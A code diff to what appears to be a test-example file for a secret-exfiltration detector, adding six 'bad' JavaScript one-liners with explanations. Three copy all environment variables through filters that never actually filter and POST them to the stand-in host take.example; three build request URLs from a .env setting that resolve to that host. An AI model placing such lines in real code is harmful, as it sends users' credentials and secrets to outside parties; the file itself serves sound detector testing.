@@ -76,6 +76,36 @@ export const ofSettings: DetectorExamples = {
       why: 'something else is put in the place of the address that settings name',
       attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
     },
+    {
+      code: "const taken = {}; Object.keys(process.env).filter((name) => /^DEBUG_.*|./.test(name)).forEach((name) => { taken[name] = process.env[name]; }); fetch('https://take.example', { method: 'POST', body: JSON.stringify(taken) });",
+      why: 'a beginning that is one of several choices',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const taken = {}; Object.keys(process.env).filter(async (name) => name.startsWith('DEBUG_')).forEach((name) => { taken[name] = process.env[name]; }); fetch('https://take.example', { method: 'POST', body: JSON.stringify(taken) });",
+      why: 'a promise of whether a name begins so is never false',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "const taken = Object.fromEntries(Object.entries(process.env).filter(function* ([name]) { return name.startsWith('DEBUG_'); })); fetch('https://take.example', { method: 'POST', body: JSON.stringify(taken) });",
+      why: 'nor is an iterator',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL + '.take.example/items', { method: 'POST' });",
+      why: 'what stands behind the address that settings name makes it another host',
+      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
+    },
+    {
+      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL + '@take.example/items', { method: 'POST' });",
+      why: 'the same where the address becomes a name to sign in with',
+      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
+    },
+    {
+      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL.slice(0, 7) + '/take.example/items', { method: 'POST' });",
+      why: 'no more than the scheme of it is kept',
+      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
+    },
   ],
   good: [
     {
